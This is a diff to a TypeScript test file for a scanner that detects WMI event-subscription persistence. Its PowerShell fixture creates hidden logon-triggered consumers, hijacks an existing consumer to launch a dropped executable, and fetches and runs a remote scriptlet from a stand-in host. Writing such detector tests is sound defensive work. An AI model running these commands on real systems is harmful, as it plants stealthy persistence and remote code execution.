@@ -115,3 +115,55 @@ test('scan: the object-model script is one critical finding with its names and p
   assert.deepEqual(f.observations.map((o) => `${o.action} ${o.part}`).sort(), ['created binding', 'created consumer', 'created filter']);
   assert.ok(f.severity === 'high' || f.severity === 'critical', f.severity);
 });
+
+const CIM_AND_SET = String.raw`$fc = Get-CimClass -Namespace root/subscription -ClassName __EventFilter
+New-CimInstance -CimClass $fc -Property @{Name='CimF'; EventNamespace='root/cimv2'; QueryLanguage='WQL'; Query='SELECT * FROM __InstanceCreationEvent WITHIN 5 WHERE TargetInstance ISA "Win32_LogonSession"'}
+$cc = New-CimInstance -CimClass (Get-CimClass -Namespace root/subscription -ClassName CommandLineEventConsumer) -Property @{Name='CimC'; CommandLineTemplate='powershell.exe -nop -w hidden -file C:\ProgramData\a.ps1'} -ClientOnly
+Get-CimInstance -Namespace root/subscription -ClassName CommandLineEventConsumer -Filter "Name='SCM Event Log Consumer'" | Set-CimInstance -Property @{CommandLineTemplate='C:\Users\Public\b.exe'}
+$old = Get-WmiObject -Namespace root\subscription -Class ActiveScriptEventConsumer -Filter "Name = 'Legit'"
+Set-WmiInstance -InputObject $old -Arguments @{ScriptText='GetObject("script:https://x.example/a.sct")'}
+Set-CimInstance -Namespace root/subscription -Query "SELECT * FROM __EventFilter WHERE Name='Boot'" -Property @{Query='SELECT * FROM __InstanceModificationEvent WITHIN 60'}
+Set-WmiInstance -Path '\\.\root\subscription:CommandLineEventConsumer.Name="ByPath"' -Arguments @{CommandLineTemplate='calc.exe'}
+Set-CimInstance -InputObject $unknown -Property @{CommandLineTemplate='x'}
+Invoke-WmiMethod -Namespace root\subscription -Class __EventFilter -Name Delete
+`;
+
+test('New-CimInstance -CimClass / -ClientOnly, Set-CimInstance and Set-WmiInstance on selected instances, Set-WmiInstance -Path', () => {
+  const out = reconstructFromScript(CIM_AND_SET);
+  const by = (n: string) => out.find((o) => o.name === n)!;
+  assert.deepEqual([by('CimF').technique, by('CimF').namespace, by('CimF').properties['EventNamespace'], by('CimF').uncommitted], ['New-CimInstance -CimClass', 'ROOT\\subscription', 'root/cimv2', undefined]);
+  // -ClientOnly: built in memory only
+  assert.match(by('CimC').uncommitted ?? '', /-ClientOnly/);
+  assert.equal(by('CimC').className, 'CommandLineEventConsumer');
+  // a piped Get-CimInstance -Filter, -InputObject of a Get-WmiObject variable, -Query: the named instance is modified
+  const scm = by('SCM Event Log Consumer');
+  assert.deepEqual([scm.part, scm.className, scm.modifies, scm.properties, scm.technique], ['consumer', 'CommandLineEventConsumer', true, { CommandLineTemplate: 'C:\\Users\\Public\\b.exe' }, 'Set-CimInstance on an existing instance']);
+  assert.deepEqual([by('Legit').className, by('Legit').modifies, by('Legit').properties['ScriptText']], ['ActiveScriptEventConsumer', true, 'GetObject("script:https://x.example/a.sct")']);
+  assert.deepEqual([by('Boot').part, by('Boot').modifies, by('Boot').properties['Query']], ['filter', true, 'SELECT * FROM __InstanceModificationEvent WITHIN 60']);
+  // -Path puts the instance (creates or updates it)
+  assert.deepEqual([by('ByPath').technique, by('ByPath').modifies, by('ByPath').namespace, by('ByPath').properties], ['Set-WmiInstance -Path', undefined, 'ROOT\\subscription', { CommandLineTemplate: 'calc.exe' }]);
+  // Set-CimInstance on an instance the text does not show, Invoke-WmiMethod (subscription classes have no method that creates one): nothing
+  assert.equal(out.length, 6, JSON.stringify(out.map((o) => o.name)));
+});
+
+test('scan: Set-CimInstance on an existing consumer is a modified observation; a -ClientOnly consumer makes no finding', async () => {
+  const r = await scanScript(CIM_AND_SET);
+  const names = r.findings.map((f) => f.consumer?.name ?? f.filter?.name).sort();
+  assert.deepEqual(names, ['Boot', 'ByPath', 'CimF', 'Legit', 'SCM Event Log Consumer']);
+  const scm = r.findings.find((f) => f.consumer?.name === 'SCM Event Log Consumer')!;
+  assert.deepEqual(scm.observations.map((o) => o.action), ['modified']);
+  assert.equal(scm.consumer?.values['CommandLineTemplate'], 'C:\\Users\\Public\\b.exe');
+});
+
+test('hostile: many unterminated class expressions, selections and assignments are read in bounded work with bounded output', () => {
+  const unterminated = '$a = [wmiclass]"\\\\.\\root\\subscription:__EventFilter\n'.repeat(5_000) + '$b = Get-WmiObject -List -Class "x\n'.repeat(5_000);
+  const piped = 'Get-CimInstance -ClassName "CommandLineEventConsumer | Set-CimInstance -Property @{A=1}\n'.repeat(5_000);
+  const objects = "$o = ([wmiclass]'root\\subscription:CommandLineEventConsumer').CreateInstance()\n$o.Name = 'n'\n$o.Put()\n".repeat(5_000);
+  const props = "$o = ([wmiclass]'root\\subscription:CommandLineEventConsumer').CreateInstance()\n" + Array.from({ length: 20_000 }, (_, i) => `$o.P${i} = 'v'\n`).join('') + '$o.Put()';
+  for (const s of [unterminated, piped, objects, props]) {
+    const out = reconstructFromScript(s);
+    assert.ok(out.length <= 64 * 3, `${out.length} objects`);
+    for (const o of out) assert.ok(Object.keys(o.properties).length + o.computed.length <= 64 + 2);
+  }
+  assert.ok(reconstructFromScript(objects).length > 0, 'the literal objects inside the limits are read');
+});
